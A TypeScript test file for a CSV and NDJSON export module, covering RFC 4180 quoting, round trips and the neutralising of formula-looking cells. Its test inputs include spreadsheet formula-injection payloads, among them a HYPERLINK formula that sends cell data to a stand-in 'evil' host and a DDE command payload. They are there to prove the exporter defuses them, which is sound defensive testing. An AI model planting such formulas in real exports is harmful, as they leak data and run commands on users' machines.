import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { CSV_BOM, csvCell, csvRow, ndjsonLine } from './csv'

/** A small RFC 4180 reader, written here independently of csv.ts, to check round trips. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let i = 0
  while (i < text.length) {
    let cell = ''
    if (text[i] === '"') {
      i++
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') (cell += '"'), (i += 2)
        else if (text[i] === '"') {
          i++
          break
        } else cell += text[i++]
      }
    } else while (i < text.length && text[i] !== ',' && text[i] !== '\r') cell += text[i++]
    row.push(cell)
    if (text[i] === ',') i++
    else if (text.startsWith('\r\n', i)) (rows.push(row), (row = []), (i += 2))
  }
  return rows
}

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['Доставка швидка', 'Доставка швидка'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['semi;colon', '"semi;colon"'],
    ['a =1+1', 'a =1+1'],
  ])('quotes per RFC 4180: %o', (v, out) => expect(csvCell(v)).toBe(out))

  it.each([
    ['=1+1', `"'=1+1"`],
    ['+7 999 123-45-67', `"'+7 999 123-45-67"`],
    ['-5', `"'-5"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=cmd', `"'\t=cmd"`],
    ['\r=cmd', `"'\r=cmd"`],
    ['\0x', `"'\0x"`],
    ['=HYPERLINK("http://evil/?"&A1,"x")', `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ])('neutralises a formula-looking string %o', (v, out) => expect(csvCell(v)).toBe(out))

  it('writes numbers and booleans as they are; empty for nothing', () => {
    expect([-5, 0, -0, 19, -12.3, 1e21, NaN, Infinity, true, false, null, undefined].map(csvCell)).toEqual(['-5', '0', '0', '19', '-12.3', '1e+21', '', '', 'true', 'false', '', ''])
  })
})

describe('csvRow', () => {
  it('joins with commas and ends with CRLF', () => {
    expect(csvRow(['score', 'comment'])).toBe('score,comment\r\n')
    expect(csvRow([3, '=bad', null, 'ok, fine'])).toBe(`3,"'=bad",,"ok, fine"\r\n`)
  })
  it('the BOM is U+FEFF, three bytes in UTF-8', () => {
    expect(Array.from(new TextEncoder().encode(CSV_BOM))).toEqual([0xef, 0xbb, 0xbf])
  })
  it('round-trips any strings; no cell starts with a formula character', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(fc.string(), fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', 'ї')).map(String), { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
        const parsed = parseCsv(rows.map(csvRow).join(''))
        expect(parsed).toEqual(rows.map((r) => r.map((v) => (/^[=+\-@\t\r\0]/.test(v) ? `'${v}` : v))))
        for (const r of parsed) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r\0]/)
      }),
    )
  })
})

describe('ndjsonLine', () => {
  it('one line per value, whatever the comment holds', () => {
    expect(ndjsonLine({ score: 3, comment: 'a\nb\u2028c' })).toBe('{"score":3,"comment":"a\\nb\u2028c"}\n')
    expect(ndjsonLine(undefined)).toBe('null\n')
    fc.assert(
      fc.property(fc.jsonValue(), (v) => {
        const line = ndjsonLine(v)
        expect(line.indexOf('\n')).toBe(line.length - 1)
        // JSON itself turns -0 into 0; compare with what JSON can hold.
        expect(JSON.parse(line)).toEqual(JSON.parse(JSON.stringify(v)))
      }),
    )
  })
})
